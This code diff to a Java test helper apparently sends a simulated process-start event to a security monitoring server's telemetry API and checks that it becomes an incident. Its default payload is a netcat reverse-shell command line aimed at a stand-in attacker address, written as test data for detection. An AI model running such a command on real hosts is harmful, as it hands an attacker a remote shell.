@@ -12,16 +12,22 @@ public final class SentAttack {
 
     /** Sends it, and gives the incident that it becomes. */
     public static String incident(TestServer server) throws IOException, InterruptedException {
+        return incident(server, "nc", "nc -e /bin/sh 192.0.2.7 4444");
+    }
+
+    /** A process that starts on the host that is attacked. */
+    public static String incident(TestServer server, String program, String command)
+            throws IOException, InterruptedException {
         String token = server.call(
                         "POST",
                         "/api/v1/tokens",
-                        "{\"name\":\"attacked\",\"role\":\"observer\",\"host\":\"attacked-1\"}")
+                        "{\"name\":\"" + UUID.randomUUID() + "\",\"role\":\"observer\",\"host\":\"attacked-1\"}")
                 .json()
                 .path("token")
                 .asString();
-        String event = "{\"@timestamp\":\"" + Instant.now() + "\",\"event\":{\"id\":\"attack-1\",\"action\":"
-                + "\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"attacked-1\"},\"process\":"
-                + "{\"executable\":\"/usr/bin/nc\",\"command_line\":\"nc -e /bin/sh 192.0.2.7 4444\"}}";
+        String event = "{\"@timestamp\":\"" + Instant.now() + "\",\"event\":{\"id\":\"" + UUID.randomUUID()
+                + "\",\"action\":\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"attacked-1\"},"
+                + "\"process\":{\"executable\":\"/usr/bin/" + program + "\",\"command_line\":\"" + command + "\"}}";
         server.call(
                 "POST",
                 "/api/v1/telemetry",
